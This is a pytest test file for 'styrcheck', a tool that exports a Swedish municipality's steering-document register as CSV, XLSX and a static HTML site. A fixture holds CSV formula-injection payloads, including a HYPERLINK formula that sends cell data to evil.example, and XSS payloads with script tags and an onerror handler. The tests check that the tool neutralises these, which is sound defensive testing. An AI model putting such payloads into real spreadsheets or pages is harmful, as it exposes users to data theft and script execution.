"""`report --format csv|xlsx` (the document register) and `due --format csv|xlsx` (the follow-up
calendar), read back with the real readers, csv and openpyxl; the site's escaping of what the
repository says; and the errors of `styrcheck report`."""

from __future__ import annotations

import csv
import io
import sys
from datetime import date, datetime

import pytest
from conftest import EXAMPLES, write_files
from lxml import html as lxml_html
from openpyxl import load_workbook

from styrcheck.core.loader import read

NORRKOPING = EXAMPLES / "norrkoping"
TODAY = "2026-11-23"
REGISTER_HEAD = ["Id", "Titel", "Dokumenttyp", "Beslutad av", "Beslutsdatum", "Diarienummer", "Giltig från",
                 "Giltig till", "Status", "Ägare", "Nästa uppföljning", "Utgår från", "Ersätter", "Ersatt av",
                 "Publicering", "Fel", "Varningar", "Fil"]


def documents(root) -> dict[str, dict]:
    """Every steering document under `root`, by id, as its YAML says (keys folded)."""
    found = {}
    for path in sorted(root.rglob("*.yaml")):
        data = read(path, str(path)).data
        if isinstance(data, dict) and "typ" in data and "titel" in data:
            found[data["id"]] = data
    return found


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark, for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(path) -> list[list[object]]:
    sheet = load_workbook(path).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_the_register_as_csv_has_a_row_for_every_document_as_its_file_says(cli, tmp_path):
    out = tmp_path / "register.csv"
    run = cli("report", NORRKOPING, "--format", "csv", "-o", out, "--today", TODAY, "--lang", "sv")
    assert run.code == 0, run.err
    rows = read_csv(out.read_bytes())
    assert rows[0] == REGISTER_HEAD
    expected = documents(NORRKOPING)
    assert sorted(row[0] for row in rows[1:]) == sorted(expected)
    for row in rows[1:]:
        doc = expected[row[0]]
        assert row[1] == doc["titel"]
        assert row[4] == doc["beslutsdatum"]
        assert row[5] == (doc.get("diarienummer") or "")
        assert row[6] == doc["giltig_fran"]
        assert row[7] == (doc.get("giltig_till") or "")
        assert row[17].endswith(".yaml")
    plan = next(row for row in rows if row[0] == "uppdragsplan-bun-2026")
    assert plan[3] == "Barn- och utbildningsnämnden"
    assert plan[8] == "gäller"
    assert plan[12] == "uppdragsplan-bun-2025" and plan[13] == "uppdragsplan-bun-2027"


def test_the_register_as_xlsx_has_the_same_rows_with_real_dates(cli, tmp_path):
    out_csv, out_xlsx = tmp_path / "r.csv", tmp_path / "r.xlsx"
    assert cli("report", NORRKOPING, "-f", "csv", "-o", out_csv, "--today", TODAY, "--lang", "en").code == 0
    assert cli("report", NORRKOPING, "-f", "xlsx", "-o", out_xlsx, "--today", TODAY, "--lang", "en").code == 0
    from_csv = read_csv(out_csv.read_bytes())
    from_xlsx = read_xlsx(out_xlsx)
    assert from_xlsx[0][:3] == ["Id", "Title", "Document type"]
    assert len(from_xlsx) == len(from_csv) == len(documents(NORRKOPING)) + 1
    for row_csv, row_xlsx in zip(from_csv[1:], from_xlsx[1:]):
        assert isinstance(row_xlsx[4], datetime)  # a date Excel sorts, not text
        shown = [value.date().isoformat() if isinstance(value, datetime) else "" if value is None else str(value)
                 for value in row_xlsx]
        assert shown == row_csv


def test_due_as_csv_and_xlsx_has_every_item_of_the_json(cli, tmp_path):
    run = cli("due", NORRKOPING, "--today", TODAY, "--within", "1y", "--format", "json")
    items = run.json["items"]
    assert items
    csv_run = cli("due", NORRKOPING, "--today", TODAY, "--within", "1y", "--format", "csv", "--lang", "sv")
    rows = read_csv(csv_run.out.encode("utf-8"))
    assert rows[0] == ["Datum", "Status", "Vad", "Dokument", "Titel", "Ansvarig", "Ansvarig (namn)", "Fil", "Rad"]
    assert len(rows) == len(items) + 1
    words = {"overdue": "försenad", "upcoming": "kommande", "follow-up": "uppföljning", "report": "redovisning",
             "expiry": "upphör att gälla"}
    for row, item in zip(rows[1:], items):
        assert row == [item["date"], words[item["status"]], words[item["kind"]], item["document"], item["title"],
                       item["owner"] or "", item["owner_name"] or "", item["path"], str(item["line"])]
    out = tmp_path / "due.xlsx"
    assert cli("due", NORRKOPING, "--today", TODAY, "--within", "1y", "-f", "xlsx", "-o", out).code == 0
    sheet = read_xlsx(out)
    assert len(sheet) == len(items) + 1
    for row, item in zip(sheet[1:], items):
        assert row[0].date() == date.fromisoformat(item["date"])
        assert (row[3], row[8]) == (item["document"], item["line"])


HOSTILE = """\
id: farlig
typ: riktlinje
titel: '=HYPERLINK("http://evil.example/?x="&A1,"klicka")'
beslutad_av: ks
beslutsdatum: 2024-01-10
diarienummer: "+46-SUM(1)"
giltig_från: 2024-02-01
gäller_för: hela_kommunkoncernen
utgår_från: ["@x", "-y"]
beskrivning: '<script>alert(1)</script><img src=x onerror="alert(2)">'
"""


@pytest.fixture
def hostile(tmp_path):
    root = tmp_path / "repo"
    write_files(root, {"riktlinje.yaml": HOSTILE,
                       "organisation.yaml": "typ: organisation\norgan:\n  - {id: ks, namn: '<b>KS</b>', slag: styrelse}\n"})
    return root


def test_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(cli, hostile, tmp_path):
    assert cli("report", hostile, "-f", "csv", "-o", tmp_path / "r.csv", "--today", TODAY).code == 0
    assert cli("report", hostile, "-f", "xlsx", "-o", tmp_path / "r.xlsx", "--today", TODAY).code == 0
    row = read_csv((tmp_path / "r.csv").read_bytes())[1]
    assert row[1] == '\'=HYPERLINK("http://evil.example/?x="&A1,"klicka")'
    assert row[5] == "'+46-SUM(1)"
    assert row[11] == "'@x, -y"
    sheet = load_workbook(tmp_path / "r.xlsx").active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["B2"].value == row[1] and sheet["F2"].value == row[5]


def test_nothing_the_repository_says_reaches_the_site_as_markup(cli, hostile, tmp_path):
    site = tmp_path / "site"
    assert cli("report", hostile, "-o", site, "--today", TODAY).code == 0
    for page in site.rglob("*.html"):
        tree = lxml_html.fromstring(page.read_bytes())
        scripts = [s.get("src") for s in tree.iter("script")]
        assert scripts in ([], ["static/filter.js"], ["../static/print.js"]), page
        assert not tree.xpath("//img | //b | //@onerror"), page
    text = (site / "dokument" / "farlig.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "&lt;b&gt;KS&lt;/b&gt;" in text


def test_without_graphviz_the_hierarchy_is_given_as_nested_lists(cli, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    site = tmp_path / "site"
    assert cli("report", NORRKOPING, "-o", site, "--today", TODAY, "--lang", "en").code == 0
    assert not list(site.glob("*.svg"))
    page = lxml_html.fromstring((site / "hierarki.html").read_bytes())
    assert "Graphviz's dot program was not found" in page.text_content()
    nested = page.xpath("//ul[@class='tree']//ul/li/a")
    assert nested and nested[0].get("href").startswith("dokument/")


def test_report_errors_are_clear_and_exit_2(cli, tmp_path, monkeypatch):
    run = cli("report", NORRKOPING, "--lang", "sv")
    assert (run.code, run.err) == (2, "styrcheck: webbplatsen är många filer: ange en mapp att skriva den i med -o MAPP\n")
    afile = tmp_path / "a.txt"
    afile.write_text("x")
    run = cli("report", NORRKOPING, "-o", afile, "--lang", "en")
    assert (run.code, run.err) == (2, f"styrcheck: {afile} exists and is not a folder; the site is written in a folder\n")
    run = cli("report", NORRKOPING, "-f", "pdf", "-o", tmp_path / "x", "--lang", "en")
    assert run.code == 2 and "choose html, csv or xlsx" in run.err
    run = cli("report", NORRKOPING, "-f", "csv", "-o", tmp_path / "doc.yaml", "--lang", "en")
    assert run.code == 2 and "writes no YAML" in run.err
    monkeypatch.setitem(sys.modules, "jinja2", None)  # as if the extra were not installed
    run = cli("report", NORRKOPING, "-o", tmp_path / "site", "--lang", "sv")
    assert run.code == 2
    assert run.err == ("styrcheck: styrcheck report behöver jinja2, som inte är installerat; installera det med\n"
                       "  pip install 'styrcheck[report]'\n")
    assert not (tmp_path / "site").exists()


def test_ids_that_differ_only_in_case_get_pages_that_differ_in_more(cli, tmp_path):
    """On Windows and macOS `Plan.html` and `plan.html` are one file: neither page may overwrite the other."""
    root = tmp_path / "repo"
    document = HOSTILE.replace("id: farlig", "id: {id}").replace("titel: '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klicka\")'",
                                                             "titel: {title}")
    write_files(root, {"a.yaml": document.format(id="Plan", title="Stor"), "b.yaml": document.format(id="plan", title="liten")})
    site = tmp_path / "site"
    assert cli("report", root, "-o", site, "--today", TODAY).code == 0
    pages = sorted(p.name for p in (site / "dokument").iterdir())
    assert len({name.lower() for name in pages}) == 2
    titles = {lxml_html.fromstring(p.read_bytes()).findtext(".//h1") for p in (site / "dokument").iterdir()}
    assert titles == {"Stor", "liten"}


@pytest.mark.parametrize("planted", ["index.html", "static/style.css", "folder"])
def test_the_site_is_never_written_through_a_planted_link(cli, tmp_path, planted, monkeypatch):
    """The site's folder, or a page in it, may be a link the repository planted: the report is
    refused (exit 2), and the file the link points at is not touched."""
    monkeypatch.chdir(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n", encoding="utf-8")
    site = tmp_path / "site"
    if planted == "folder":
        (tmp_path / "elsewhere").mkdir()
        site.symlink_to(tmp_path / "elsewhere")
    else:
        (site / planted).parent.mkdir(parents=True)
        (site / planted).symlink_to(victim)
    run = cli("report", NORRKOPING, "-o", "site", "--today", TODAY, "--lang", "en")
    assert run.code == 2, run.err
    assert "Traceback" not in run.err and "internal error" not in run.err
    assert victim.read_text(encoding="utf-8") == "keep me\n"
    assert not any((tmp_path / "elsewhere").iterdir()) if planted == "folder" else True
